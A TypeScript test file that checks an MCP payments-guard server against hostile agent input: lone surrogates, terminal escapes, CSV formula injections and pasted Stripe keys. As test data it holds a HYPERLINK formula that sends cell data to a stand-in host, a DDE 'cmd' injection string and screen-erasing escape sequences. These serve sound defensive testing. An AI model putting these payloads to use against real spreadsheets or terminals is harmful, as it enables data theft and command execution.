import type { CallToolResult, Client } from "@modelcontextprotocol/client";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { isWellFormed } from "../../src/audit/text.js";
import { DEMO, type Sandbox, startSandbox } from "../../src/sandbox/index.js";
import { openSqliteStore } from "../../src/store/sqlite/store.js";
import type { Admission, AuditRecord } from "../../src/store/store.js";
import { runCli } from "../cli/helpers.js";
import { fakeStripeKey } from "../fake-keys.js";
import { call, connectStdio, errorOf, okOf, ROOT, tempHome } from "./harness.js";

/**
 * Agent text is hostile. Over the real stdio server against the sandbox, an agent sends
 * what a careless or malicious model can: lone UTF-16 surrogates, terminal escapes,
 * spreadsheet formulas and Stripe keys, in tool names and in arguments. The audit chain
 * still verifies, the operator's terminal and spreadsheet show text (never escapes or
 * formulas), and no key is stored or echoed.
 */

let sandbox: Sandbox;
let home: ReturnType<typeof tempHome>;

beforeEach(async () => {
  sandbox = await startSandbox({ port: 0, seed: "demo" });
  home = tempHome();
});

afterEach(async () => {
  await sandbox.close();
  home.cleanup();
});

async function agent(role: string) {
  return connectStdio({
    policy: `${ROOT}/policies/${role}.yaml`,
    home: home.dir,
    sandbox,
    key: sandbox.keys.roles[role as keyof Sandbox["keys"]["roles"]],
  });
}

const operator = (...args: string[]) =>
  runCli(args, { env: { SPENDGUARD_HOME: home.dir, NO_COLOR: "1" } });

async function stored(): Promise<{ audit: AuditRecord[]; admissions: Admission[] }> {
  const store = openSqliteStore(home.dir);
  try {
    return { audit: await store.queryAudit({}), admissions: await store.listAdmissions({}) };
  } finally {
    await store.close();
  }
}

/** A tools/call with any name at all (the SDK's callTool takes a string). */
const callNamed = (client: Client, name: string, args: Record<string, unknown> = {}) =>
  client.callTool({ name, arguments: args }) as Promise<CallToolResult>;

/** Control characters a terminal acts on: everything below space but the line break, DEL, C1. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe("lone surrogates", () => {
  it("in a tool name: refused, audited, and the chain still verifies", async () => {
    const server = await agent("support-refunds");
    for (const name of ["issue_refund\ud800", "\udc00", "x\udbff\udbff"]) {
      expect(errorOf(await callNamed(server.client, name)).code).toBe("unknown_tool");
    }
    await server.close();
    const verified = await operator("audit", "verify");
    expect(verified.stdout + verified.stderr).toContain("audit chain ok: 3 row(s) verified");
    expect(verified.code).toBe(0);
    for (const row of (await stored()).audit) expect(isWellFormed(row.tool)).toBe(true);
  });

  it("in write arguments: invalid_input, nothing reserved or left unknown", async () => {
    const server = await agent("dispute-handler");
    const error = errorOf(
      await call(server.client, "submit_dispute_evidence", {
        dispute: DEMO.disputes.acmeNeedsResponse,
        evidence: { uncategorized_text: "The customer used it \ud83d; logs attached." },
      }),
    );
    expect(error.code).toBe("invalid_input");
    expect(error.message).toContain("evidence.uncategorized_text");
    // The same evidence, well-formed, goes through: the refusal was about the text alone.
    okOf(
      await call(server.client, "submit_dispute_evidence", {
        dispute: DEMO.disputes.acmeNeedsResponse,
        evidence: { uncategorized_text: "The customer used it \ud83d\ude00; logs attached." },
      }),
    );
    await server.close();
    const { admissions, audit } = await stored();
    expect(admissions.map((a) => a.state)).toEqual(["settled"]);
    expect(audit.map((r) => r.outcome)).toEqual(["invalid", "ok"]);
    expect((await operator("audit", "verify")).code).toBe(0);
  });
});

describe("escapes and formulas never reach the operator as such", () => {
  const ERASE = "\u001b[2J\u001b[H\u001b[8m";
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
  ];

  it("audit, sessions and verify print control characters as visible escapes", async () => {
    const server = await agent("support-refunds");
    okOf(
      await call(server.client, "issue_refund", {
        charge: DEMO.charges.acmeSmallA,
        amount: 1_000,
        reason: "duplicate",
      }),
    );
    expect(errorOf(await callNamed(server.client, `${ERASE}hidden\u009b2J`)).code).toBe(
      "unknown_tool",
    );
    okOf(await call(server.client, "end_session", { reason: `done${ERASE}\r\nforged line` }));
    await server.close();

    for (const args of [["audit"], ["audit", "--decision", "error"], ["sessions", "--empty"]]) {
      const run = await operator(...args);
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout, args.join(" ")).not.toMatch(TERMINAL_CONTROL);
    }
    const table = (await operator("audit")).stdout;
    expect(table).toContain("\\u001b[2J\\u001b[H\\u001b[8mhidden\\u009b2J");
    expect(table).toContain("issue_refund");
    const [stored_] = (await stored()).audit.filter((r) => r.code === "unknown_tool");
    expect(stored_?.tool).toBe("\\u001b[2J\\u001b[H\\u001b[8mhidden\\u009b2J");
  });

  it("audit --csv neutralises cells that start with = + - @", async () => {
    const server = await agent("support-refunds");
    for (const name of FORMULAS) {
      expect(errorOf(await callNamed(server.client, name)).code).toBe("unknown_tool");
    }
    await server.close();
    const csv = (await operator("audit", "--csv")).stdout.trim().split("\n");
    const [header, ...rows] = csv;
    const toolColumn = header?.split(",").indexOf("tool") ?? -1;
    expect(toolColumn).toBeGreaterThan(-1);
    const tools = rows.map((line) => parseCsvLine(line)[toolColumn]);
    expect(tools).toEqual(FORMULAS.map((name) => `'${name}`));
    for (const line of rows) {
      for (const cell of parseCsvLine(line)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("secrets the agent sends are never stored or echoed", () => {
  const key = fakeStripeKey("rk", "live", "51AgentPastedThisKey0123456789");
  const token = `sg_agent_${"k".repeat(43)}`;

  it("in tool names, argument names and ids Stripe echoes, even inside a token", async () => {
    const server = await agent("support-refunds");
    const replies: string[] = [];
    for (const [name, args] of [
      [`lookup_${key}`, {}],
      [`x${token}`, {}],
      ["lookup_charge", { charge: `ch_${key}` }],
      ["issue_refund", { charge: `ch_${key}`, amount: 100, reason: "duplicate" }],
      ["lookup_charge", { charge: DEMO.charges.acmeLarge, [`note_${key}`]: 1 }],
    ] as const) {
      const result = await callNamed(server.client, name, args);
      expect(result.isError).toBe(true);
      replies.push(JSON.stringify(result));
    }
    await server.close();
    const exported = (await operator("audit", "--json")).stdout;
    const table = (await operator("audit")).stdout;
    for (const text of [...replies, exported, table, JSON.stringify(await stored())]) {
      expect(text).not.toContain(key);
      expect(text).not.toContain("live_51AgentPasted");
      expect(text).not.toContain(token);
    }
    expect(exported).toContain("[redacted]");
  });
});

/** One CSV line (RFC 4180 quoting), as a spreadsheet reads it. */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      cells.push(cell);
      cell = "";
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}
